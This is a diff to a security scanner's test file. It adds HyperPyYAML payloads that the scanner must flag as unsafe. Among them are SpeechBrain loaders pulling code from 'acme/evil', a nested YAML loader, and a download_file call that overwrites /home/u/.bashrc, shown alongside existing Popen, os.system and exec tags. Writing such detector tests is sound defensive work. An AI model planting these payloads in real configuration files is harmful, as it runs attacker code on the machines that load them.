@@ -48,6 +48,11 @@ def _ids(r: object) -> list[str]:
     '%TAG !! !new:\n---\nrun: !!subprocess.Popen ["true"]\n',
     'a: [!apply:os.system [true]]\n',
     'x: !apply:builtins.exec ["1"]\n',
+    # SpeechBrain's own nested loaders and downloaders (deny list: as transformers' from_pretrained)
+    'm: !apply:speechbrain.inference.EncoderClassifier.from_hparams {source: acme/evil}\n',
+    'm: !apply:speechbrain.inference.interfaces.foreign_class {source: acme/evil, pymodule_file: custom.py}\n',
+    'm: !apply:hyperpyyaml.load_hyperpyyaml ["x: 1"]\n',
+    'd: !applyref:speechbrain.utils.data_utils.download_file [http://x.invalid/a, /home/u/.bashrc]\n',
 ])
 def test_119pa1_hyperpyyaml_call_tags_naming_danger_are_unsafe(text: str) -> None:
     r = scan_bytes(text.encode(), "hyperparams.yaml")
